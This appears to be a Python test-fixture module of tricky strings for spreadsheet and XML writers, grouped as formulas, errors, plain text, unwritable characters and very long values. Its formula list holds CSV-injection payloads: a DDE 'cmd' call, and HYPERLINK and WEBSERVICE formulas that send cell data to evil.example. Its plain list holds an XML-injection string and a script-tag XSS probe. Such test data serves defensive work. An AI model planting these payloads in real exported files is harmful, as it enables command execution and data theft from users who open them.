"""Texts that spreadsheets, XML and writers of files have tripped over."""

from typing import Final

FORMULAS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '=WEBSERVICE("http://evil.example/")',
    "=",
    "==",
    "+1+1",
    "+49 30 1234567",
    "-2+3",
    "-",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "|calc",
    "%0A=1+1",
)
"""What some spreadsheet would execute if it were typed in."""

ERRORS: Final = ("#N/A", "#REF!", "#DIV/0!", "#NAME?", "#NULL!", "#NUM!", "#VALUE!")
"""What openpyxl takes for errors of formulas."""

PLAIN: Final = (
    "",
    " ",
    "TRUE",
    "1",
    "007",
    "1e5",
    "2026-03-02",
    "'quoted",
    "a'b\"c",
    "a,b;c\td",
    "one\ntwo",
    "]]>",
    "</t></is></c><c><f>1+1</f></c>",
    "&amp; &#61;1+1 &lt;b&gt;",
    "<script>alert(1)</script>",
    "_x003D_1+1",
    "_x0041_ and _x005F_x0041_",
    "  spaces around  ",
    "שלום עולם",
    "\u202eevil\u202c",
    "مرحبا =1+1",
    "e\u0301 \U0001f469\u200d\U0001f4bb \U00020000",
    "\x7f\x80\x9f\u2028\u2029\u0085",
    "\U0001fffe\ufdd0",
)
"""What stays as it is."""

UNWRITABLE: Final = {
    "a\x00b": "a\ufffdb",
    "\x01\x08\x0b\x0c\x0e\x1f": "\ufffd" * 6,
    "half \ud800 pair": "half \ufffd pair",
    "\udfff": "\ufffd",
    "\ufffe\uffff": "\ufffd\ufffd",
    "one\r\ntwo\rthree": "one\ntwo\nthree",
}
"""What has no place in a cell, and what is there instead."""

LONG: Final = (
    "a" * 32_767,
    "a" * 40_000,
    "=" + "a" * 40_000,
    "\U0001f600" * 20_000,
    "_x0041_" * 10_000,
    "\n" * 40_000,
)
EVERYTHING: Final = (*FORMULAS, *ERRORS, *PLAIN, *UNWRITABLE, *LONG)
